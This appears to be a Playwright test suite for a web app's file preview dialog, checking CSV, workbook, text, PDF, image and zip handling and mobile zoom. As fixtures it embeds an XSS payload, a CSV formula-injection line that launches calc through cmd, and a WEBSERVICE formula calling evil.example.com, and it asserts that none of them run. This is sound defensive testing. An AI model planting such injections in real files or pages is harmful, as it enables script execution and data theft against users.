import { expectAccessible } from '../../fixtures/browser/expect-accessible.ts'
import { scannedPdf, textPdf, workbookOf, zipOf, type Scan } from '../../fixtures/files/sample-files.ts'
import { fixture, PreviewPage } from '../../fixtures/pages/preview-page.ts'
import { expect, test } from '../../fixtures/test.ts'

const hostile = '<img src=x onerror="window.struck=1">'
const table = (preview: PreviewPage) => preview.dialog.getByRole('table')
const row = (preview: PreviewPage, number: number) =>
  table(preview).locator(`[role=row][aria-rowindex="${number + 1}"]`)

/** A table of more rows than are shown, with cells that would do harm anywhere else. */
function ledger(): string {
  const lines = Array.from({ length: 100_200 }, (_, index) => `"Baker, ${index}",${(index * 1.5).toFixed(2)},04101`)
  const csv = `Name,Amount,Zip code\n=cmd|' /C calc'!A0,${hostile.replaceAll('"', "'")},<script>window.struck=1</script>\n${lines.join('\n')}`
  return csv
}

/** Two sheets with formats and a formula. */
function book(): Buffer {
  const cell = (place: string, value: string, more = '') => `<c r="${place}"${more}>${value}</c>`
  const words = (place: string, text: string) => cell(place, `<is><t>${text}</t></is>`, ' t="inlineStr"')
  return workbookOf({
    Income:
      `<row r="1">${words('A1', 'Revenue')}${cell('B1', '<v>1250000.5</v>', ' s="1"')}${cell('C1', '<v>46086</v>', ' s="2"')}</row>` +
      `<row r="3">${words('A3', 'Twice')}${cell('B3', '<f>WEBSERVICE("https://evil.example.com")*2</f><v>84</v>')}</row>`,
    Notes: `<row r="1">${words('A1', hostile.replaceAll('<', '&lt;').replaceAll('"', '&quot;'))}</row>`,
  })
}

test('tables, workbooks and texts of any encoding are shown and run nothing; other files are offered for download', async ({
  page,
}) => {
  test.slow()
  const markup = `Notes of the call\n${hostile}\n<script>window.struck=1</script>\n`
  const preview = await PreviewPage.of(page, {
    'a.txt': markup,
    'b.txt': Buffer.from(`\ufeffSe\u00f1or M\u00fcller \u20ac`, 'utf16le'),
    'c.txt': Buffer.from('Se\u00f1or M\u00fcller, \u0080 5', 'latin1'),
    'd.txt': 'A line of a long letter.\n'.repeat(120_000),
    'Workbook.xlsx': book(),
    'Ledger.csv': ledger(),
    'Papers.zip': zipOf({ 'a.txt': 'one' }),
  })
  await preview.open('Ledger.csv')
  await expect(row(preview, 1).getByRole('cell')).toHaveText(['Name', 'Amount', 'Zip code'])
  await expect(row(preview, 2).getByRole('cell').first()).toHaveText("=cmd|' /C calc'!A0")
  await expect(row(preview, 3).getByRole('cell')).toHaveText(['Baker, 0', '0.00', '04101'])
  await expect(table(preview)).toHaveAttribute('aria-rowcount', '100001')
  await expect(preview.dialog.getByRole('note')).toContainText('Showing the first 100,000 rows.')
  expect(await table(preview).getByRole('row').count()).toBeLessThan(80)
  await page.keyboard.press('End')
  await expect(row(preview, 100_000).getByRole('cell').first()).toHaveText('Baker, 99997')
  // The header row stays.
  await expect(row(preview, 1)).toBeInViewport()
  await expectAccessible(page)

  await preview.open('Workbook.xlsx')
  await expect(row(preview, 1).getByRole('cell')).toHaveText(['Revenue', '$1,250,000.50', '3/5/2026'])
  await expect(row(preview, 3).getByRole('cell')).toHaveText(['Twice', '84', ''])
  await expect(table(preview)).not.toContainText('WEBSERVICE')
  await expectAccessible(page)
  await preview.dialog.getByRole('tab', { name: 'Income' }).focus()
  await page.keyboard.press('ArrowRight')
  await expect(preview.dialog.getByRole('tab', { name: 'Notes' })).toBeFocused()
  await expect(row(preview, 1).getByRole('cell')).toHaveText([hostile])

  await preview.open('a.txt')
  await expect(preview.dialog.getByText('Notes of the call')).toContainText('<script>window.struck=1</script>')
  await expect(preview.dialog.locator('pre script, pre img')).toHaveCount(0)
  await page.keyboard.press(']')
  await expect(preview.dialog.getByText('Señor Müller €')).toBeVisible()
  await page.keyboard.press(']')
  await expect(preview.dialog.getByText('Señor Müller, € 5')).toBeVisible()
  await page.keyboard.press(']')
  await expect(preview.dialog.getByText('A line of a long letter.').first()).toBeVisible()
  await expect(preview.dialog.getByRole('note')).toContainText('Showing the first 2 MB of this file.')
  const whole = page.waitForEvent('download')
  await preview.button('Download the whole file').click()
  expect((await whole).suggestedFilename()).toBe('d.txt')
  await preview.open('Papers.zip')
  await expect(preview.dialog.getByText('A zip archive can’t be previewed')).toBeVisible()
  await expectAccessible(page)
  const saving = page.waitForEvent('download')
  await preview.button('Download').last().click()
  expect((await saving).suggestedFilename()).toBe('Papers.zip')
  await preview.expectNothingExecuted()
})

test('scans of every encoding and photos of every type are shown; a damaged file says why', async ({ page }) => {
  const filters: Scan[] = ['JBIG2Decode', 'JPXDecode', 'CCITTFaxDecode']
  const preview = await PreviewPage.of(page, {
    ...Object.fromEntries(filters.map((filter) => [`${filter}.pdf`, scannedPdf(filter)])),
    'Painting.webp': fixture('picture.webp'),
    'Photo.heic': fixture('photo.heic'),
  })
  for (const filter of filters) {
    await preview.open(`${filter}.pdf`)
    // Of 64 by 64 pixels 1681 are dark.
    await expect.poll(() => preview.darkness(1), { message: filter }).toBeGreaterThan(0.35)
    expect(await preview.darkness(1), filter).toBeLessThan(0.5)
  }
  await page.keyboard.press('/')
  await page.keyboard.type('anything')
  await expect(preview.dialog.getByRole('search').getByRole('status')).toHaveText(
    'This is a scan and can’t be searched',
  )

  await preview.open('Photo.heic')
  const picture = preview.dialog.getByRole('img', { name: 'Photo.heic' })
  await expect(picture).toBeVisible()
  const size = async () => {
    const box = await picture.boundingBox()
    return [Math.round(box?.width ?? 0), Math.round(box?.height ?? 0)]
  }
  expect(await size()).toEqual([96, 160])
  await preview.button('Rotate').click()
  expect(await size()).toEqual([160, 96])
  await preview.dialog.getByRole('combobox', { name: 'Zoom' }).selectOption('400')
  await page.keyboard.press('0')
  await preview.dialog.getByRole('combobox', { name: 'Zoom' }).selectOption('page')
  expect(await size()).toEqual([160, 96])
  await page.keyboard.press('[')
  await expect(preview.heading('Painting.webp')).toBeVisible()
  await expect(preview.dialog.getByRole('img', { name: 'Painting.webp' })).toBeVisible()
  await expectAccessible(page)

  await page.route('**/files/**', (route) => route.fulfill({ status: 200, body: '%PDF-1.7 and then nothing' }))
  await preview.open('JBIG2Decode.pdf')
  await expect(preview.dialog.getByRole('alert')).toContainText('This PDF is damaged and can’t be opened.')
  await preview.expectNothingExecuted()
})

test.describe('on a phone', () => {
  test.use({ viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true })

  test('a pinch zooms the document, not the page; everything is within reach', async ({ page }) => {
    const preview = await PreviewPage.of(page, { 'Memo.pdf': textPdf(3) })
    await preview.open('Memo.pdf')
    await expect(preview.pdfPage(1).getByText('Credit memorandum')).toBeAttached()
    const width = async () => Math.round((await preview.pdfPage(1).boundingBox())?.width ?? 0)
    expect(await width()).toBeLessThanOrEqual(390)
    const session = await page.context().newCDPSession(page)
    const touch = (type: 'touchStart' | 'touchMove' | 'touchEnd', spread: number) =>
      session.send('Input.dispatchTouchEvent', {
        type,
        touchPoints: type === 'touchEnd' ? [] : [-spread, spread].map((from, id) => ({ x: 195 + from, y: 400, id })),
      })
    await touch('touchStart', 40)
    for (const spread of [50, 60, 70, 80]) await touch('touchMove', spread)
    await touch('touchEnd', 0)
    await expect.poll(width).toBeGreaterThan(600)
    expect(await page.evaluate(() => visualViewport?.scale)).toBe(1)
    for (const name of ['Zoom in', 'Rotate', 'Find', 'Download', 'Close']) {
      const box = await preview.button(name).boundingBox()
      expect(Math.min(box?.width ?? 0, box?.height ?? 0), name).toBeGreaterThanOrEqual(44)
      await expect(preview.button(name)).toBeInViewport()
    }
    await expectAccessible(page)
    await preview.expectNothingExecuted()
  })
})
